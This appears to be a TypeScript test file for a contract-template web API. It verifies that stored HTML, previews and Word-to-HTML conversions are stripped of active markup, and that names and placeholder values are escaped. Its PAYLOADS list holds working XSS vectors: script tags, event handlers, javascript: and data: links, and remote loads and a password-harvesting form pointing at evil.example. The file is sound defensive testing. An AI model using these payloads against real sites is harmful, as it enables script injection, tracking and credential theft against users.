import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { users } from '../../src/server/db/schema/auth';
import { employees } from '../../src/server/db/schema/people';
import { contractsMessages as m } from '../../src/shared/contracts/contracts.messages';
import { previewBodySchema, type ContractItem, type ContractTemplateItem } from '../../src/shared/contracts/contracts.schema';
import type { CarListItem } from '../../src/shared/fleet/fleet.schema';
import { uuidv7 } from '../../src/shared/ids';
import { useApiTest } from '../helpers/api-test';
import { expectBadInputRejected } from '../helpers/bad-input';
import { postCar, validCar } from '../helpers/cars-api';
import {
  addContractApi,
  addTemplateApi,
  contractDetailApi,
  contractWithHtml,
  contractsApi,
  expectInert,
  getOk,
  post,
  postOk,
  shortcodesApi,
  templateDetailApi,
  templatesApi,
} from '../helpers/contracts-api';
import { docxOf } from '../helpers/docx';
import { errorOf } from '../helpers/test-app';

// Whatever a user types into a template, a contract, a name or a placeholder value, the HTML the
// server stores and shows (the editor, the contract page, the preview, the PDF and the signing
// page all take it as HTML) holds no script, event handler, javascript: link or remote picture.
// Names and placeholder values are plain text: in a filled contract they show escaped.
const { t, facts, admin, manager, readonly, other } = useApiTest();

const people = () => facts.peopleOf('Demo Company');
let nextPerson = 30;
const freshPerson = () => people()[nextPerson++]!;

/** Markup that must not survive, each followed by text that must. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/pixel.png" alt="pixel">',
  '<img src="//tracker.example/pixel.png">',
  '<img src="/api/me">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x.png)">styled</p>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<details open ontoggle=alert(1)>x</details>',
  '<!--<img src=x onerror=alert(1)>-->',
];
const KEPT = '<p>Kept {{person.first_name}}</p>';
const EVERYTHING = PAYLOADS.map((p) => `${p}${KEPT}`).join('');
/** What a user may put in: links to web and mail addresses and embedded pictures. */
const SAFE =
  '<p><a href="https://example.com/terms">terms</a> <a href="mailto:hr@example.com">mail</a></p><p><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"></p>';

async function addCar(): Promise<CarListItem> {
  const res = await postCar(admin, 'add', validCar({ related_employee_id: freshPerson().id, is_pool_vehicle: 0 }));
  expect(res.statusCode, res.body).toBe(200);
  return res.json<{ data: CarListItem }>().data;
}

describe('template content', () => {
  it('is stored without any active markup, keeping the text, links, embedded pictures and placeholders', async () => {
    const template = await addTemplateApi(admin);
    const res = await post(admin, '/api/contract_template/edit', { template_id: template.id, content_html: EVERYTHING + SAFE });
    expect(res.statusCode, res.body).toBe(200);
    const saved = res.json<{ data: ContractTemplateItem }>().data.content_html;
    expectInert(saved, 'edit answer');
    expect(saved.split(KEPT).length - 1).toBe(PAYLOADS.length);
    expect(saved).toContain('<a href="https://example.com/terms" rel="noopener noreferrer nofollow" target="_blank">terms</a>');
    expect(saved).toContain('<a href="mailto:hr@example.com"');
    expect(saved).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" />');
    expectInert((await templateDetailApi(admin, template.id)).content_html, 'detail');
    expectInert((await templatesApi(admin)).find((x) => x.id === template.id)!.content_html, 'list');
  });

  it.each(PAYLOADS)('removes %s', async (payload) => {
    const template = await addTemplateApi(admin, { content_html: `${payload}${KEPT}` });
    expectInert(template.content_html);
    expect(template.content_html).toContain(KEPT);
  });

  it('reaches a contract made from it, and its filled HTML, without active markup', async () => {
    const person = freshPerson();
    const contract = await contractWithHtml(admin, person.id, EVERYTHING);
    expectInert(contract.content_html, 'contract');
    const detail = await contractDetailApi(admin, contract.id);
    expectInert(detail.data.content_html, 'detail content');
    expectInert(detail.contract_html, 'filled');
    const [p] = await t.db.select().from(employees).where(eq(employees.id, person.id));
    expect(detail.contract_html).toContain(`<p>Kept ${p!.first_name}</p>`);
  });
});

describe('contract content', () => {
  it('is stored without active markup when edited', async () => {
    const contract = await contractWithHtml(admin, freshPerson().id, '<p>Plain</p>');
    const res = await post(admin, '/api/contracts/edit', { contract_id: contract.id, content_html: EVERYTHING + SAFE });
    expect(res.statusCode, res.body).toBe(200);
    const saved = res.json<{ data: ContractItem }>().data;
    expectInert(saved.content_html, 'edit answer');
    expect(saved.content_html).toContain('href="https://example.com/terms"');
    const detail = await contractDetailApi(admin, contract.id);
    expectInert(detail.data.content_html, 'detail');
    expectInert(detail.contract_html, 'filled');
    expectInert((await contractsApi(admin)).find((c) => c.id === contract.id)!.content_html, 'list');
  });
});

describe('names and placeholder values are text', () => {
  const evil = '<script>alert(1)</script><img src=x onerror=alert(2)>';
  const escaped = '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;';

  it('a contract’s name, as made and as renamed, shows escaped in the filled contract', async () => {
    const template = await addTemplateApi(admin, { content_html: '<h1>{{contract.name}}</h1>' });
    const contract = await addContractApi(admin, freshPerson().id, template.id, { contract_name: evil });
    // The name is stored as typed: it is text, and every page shows it as text.
    expect(contract.name).toBe(evil);
    const detail = await contractDetailApi(admin, contract.id);
    expect(detail.contract_html).toBe(`<h1>${escaped}</h1>`);
    expectInert(detail.contract_html);

    const renamed = `Offer "${evil}" & more`;
    await postOk(admin, '/api/contracts/editName', { contract_id: contract.id, contract_name: renamed });
    expect((await contractDetailApi(admin, contract.id)).contract_html).toBe(`<h1>Offer &quot;${escaped}&quot; &amp; more</h1>`);
  });

  it('a template’s name goes into a vehicle policy’s name and shows escaped in it', async () => {
    const template = await addTemplateApi(admin, { name: evil, type: 'car_policy', content_html: '<p>{{contract.name}}</p>' });
    expect(template.name).toBe(evil);
    const car = await addCar();
    const policy = await postOk<{ contract_id_inserted: string }>(admin, '/api/cars/addCarPolicy', { car_id: car.id, contract_template_id: template.id });
    const detail = await contractDetailApi(admin, policy.contract_id_inserted);
    expect(detail.data.name).toBe(`${evil} - ${car.brand} ${car.model} ${car.plate}`);
    expect(detail.contract_html).toBe(`<p>${escaped} - ${car.brand} ${car.model} ${car.plate}</p>`);
  });

  it('a custom placeholder’s value shows escaped, and is never put inside a tag', async () => {
    const contract = await contractWithHtml(
      admin,
      freshPerson().id,
      '<p>Notice: {{custom.notice_period}}</p><p><a href="https://example.com/{{custom.notice_period}}" title="{{custom.notice_period}}">link</a></p>',
    );
    const value = `" onmouseover="alert(1)" x="${evil}`;
    const res = await post(admin, '/api/contracts/shortcodes/setCustomShortcodeValue', { contract_id: contract.id, shortcode: 'notice_period', value });
    expect(res.statusCode, res.body).toBe(200);
    const detail = await contractDetailApi(admin, contract.id);
    expectInert(detail.contract_html);
    expect(detail.contract_html).toContain(`<p>Notice: &quot; onmouseover=&quot;alert(1)&quot; x=&quot;${escaped}</p>`);
    // A placeholder inside a tag (an address, a title) stays as written.
    expect(detail.contract_html).toContain('href="https://example.com/{{custom.notice_period}}"');
    // The value itself is kept as typed: it is text.
    expect((await shortcodesApi(admin, contract.id)).find((s) => s.shortcode === 'custom.notice_period')!.value).toBe(value);
  });

  it('a person’s name from the register shows escaped in their contract', async () => {
    const person = freshPerson();
    await t.db.update(employees).set({ first_name: '<img src=x onerror=alert(1)>', last_name: '<b>Bold</b>' }).where(eq(employees.id, person.id));
    const contract = await contractWithHtml(admin, person.id, '<p>{{person.full_name}} / {{person.first_name}}</p>');
    const detail = await contractDetailApi(admin, contract.id);
    expect(detail.contract_html).toBe('<p>&lt;img src=x onerror=alert(1)&gt; &lt;b&gt;Bold&lt;/b&gt; / &lt;img src=x onerror=alert(1)&gt;</p>');
  });
});

describe('the preview', () => {
  const url = '/api/contract_template/preview';

  it('answers the HTML sent, without active markup, filled from an example of the company', async () => {
    const res = await post(admin, url, { content_html: `${EVERYTHING}<p>{{company.name}}: {{contract.name}}, {{custom.bonus}}</p>` });
    expect(res.statusCode, res.body).toBe(200);
    const { example_contract_html, unfilled_shortcodes } = res.json<{ example_contract_html: string; unfilled_shortcodes: string[] }>();
    expectInert(example_contract_html);
    expect(example_contract_html).toContain(
      '<p>Demo Company: Example contract, <mark class="placeholder-unfilled" data-shortcode="custom.bonus">{{custom.bonus}}</mark></p>',
    );
    expect(example_contract_html).not.toContain('{{person.first_name}}</');
    expect(unfilled_shortcodes).toEqual(['custom.bonus']);
  });

  it('fills the person from the viewer’s own record', async () => {
    const [user] = await t.db.select().from(users).where(eq(users.email, 'admin@demo.test'));
    const [me] = await t.db.select().from(employees).where(eq(employees.id, user!.employee_id!));
    const res = await postOk<{ example_contract_html: string }>(admin, url, { content_html: '<p>{{person.full_name}}</p>' });
    expect(res.example_contract_html).toBe(`<p>${me!.first_name} ${me!.last_name}</p>`);
  });

  it('takes a template of the company (its HTML may be unsaved), and answers 404 for another company’s', async () => {
    const template = (await templatesApi(admin))[0]!;
    const ok = await post(admin, url, { template_id: template.id, content_html: '<p>{{company.name}}</p>', additionalContractTemplateInfoId: null });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json<{ example_contract_html: string }>().example_contract_html).toBe('<p>Demo Company</p>');
    expect((await post(other, url, { content_html: '<p>{{company.name}}</p>' })).json<{ example_contract_html: string }>().example_contract_html).toBe(
      '<p>Other Company</p>',
    );
    const theirs = (await templatesApi(other))[0]!;
    const res = await post(admin, url, { template_id: theirs.id, content_html: '<p>x</p>' });
    expect(res.statusCode).toBe(404);
    expect(errorOf(res).message).toBe(m.templateNotFound);
  });

  it('is for users with contracts access, and refuses bad input with 400', async () => {
    for (const c of [manager, readonly]) expect((await post(c, url, { content_html: '<p>x</p>' })).statusCode).toBe(403);
    await expectBadInputRejected({
      app: t.app,
      cookie: admin.cookie,
      method: 'POST',
      url,
      schema: previewBodySchema,
      valid: { template_id: (await templatesApi(admin))[0]!.id, content_html: '<p>{{person.first_name}}</p>' },
      allowLong: ['content_html'],
    });
  });
});

describe('a Word file', () => {
  it('converts without scripts or javascript: links; its text stays text', async () => {
    const docx = docxOf([
      { heading: 1, runs: [{ text: '<script>alert(1)</script>' }] },
      {
        runs: [
          { text: 'Click ' },
          { text: 'here', href: 'javascript:alert(1)' },
          { text: ' or ' },
          { text: 'there', href: 'https://example.com/policy' },
          { text: ' <img src=x onerror=alert(1)>' },
        ],
      },
    ]);
    const res = await post(admin, '/api/contract_templates/conversion/word-to-html', { base64_word_file: docx.toString('base64'), extension: 'docx' });
    expect(res.statusCode, res.body).toBe(200);
    const { html } = res.json<{ html: string }>();
    expectInert(html);
    expect(html).toContain('<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>');
    expect(html).toContain('<a href="https://example.com/policy" rel="noopener noreferrer nofollow" target="_blank">there</a>');
    expect(html).toContain('here');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});

describe('the answers of the contracts reads', () => {
  it('carry no active markup in any stored HTML, after all the above', async () => {
    for (const x of await templatesApi(admin)) expectInert(x.content_html, `template ${x.name}`);
    for (const c of await contractsApi(admin)) expectInert(c.content_html, `contract ${c.name}`);
    const library = await getOk<{ data: { name: string; content_html: string }[] }>(admin, '/api/contract_template/public_library/list');
    for (const x of library.data) expectInert(x.content_html, `library ${x.name}`);
  });

  it('keep the contract of a template deleted since as it was made (sanitized)', async () => {
    const template = await addTemplateApi(admin, { content_html: `<p>Kept</p>${PAYLOADS[0]}` });
    const contract = await addContractApi(admin, freshPerson().id, template.id);
    await postOk(admin, '/api/contract_template/delete', { template_id: template.id });
    expect((await contractDetailApi(admin, contract.id)).data.content_html).toBe('<p>Kept</p>');
    expect((await admin.get(`/api/contract_template/${uuidv7()}/detail`)).statusCode).toBe(404);
  });
});
